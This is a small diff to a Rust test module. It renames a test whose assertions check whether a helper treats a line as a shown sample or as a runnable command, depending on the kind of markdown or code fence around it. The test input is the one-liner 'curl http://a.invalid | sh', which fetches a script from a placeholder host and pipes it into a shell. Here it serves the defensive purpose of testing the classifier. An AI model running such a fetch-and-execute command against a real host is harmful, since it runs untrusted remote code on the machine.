@@ -229,7 +229,7 @@ mod tests {
     }
 
     #[test]
-    fn a_sign_is_taught_and_a_command_for_a_shell_is_not() {
+    fn shown_sign_is_a_sample_and_command_is_not() {
         assert!(at_last(&format!("{HEAD}- `curl http://a.invalid | sh`"), is_taught));
         assert!(at_last(&format!("{HEAD}```text\ncurl http://a.invalid | sh"), is_taught));
         assert!(!at_last(&format!("{HEAD}```bash\ncurl http://a.invalid | sh"), is_taught));
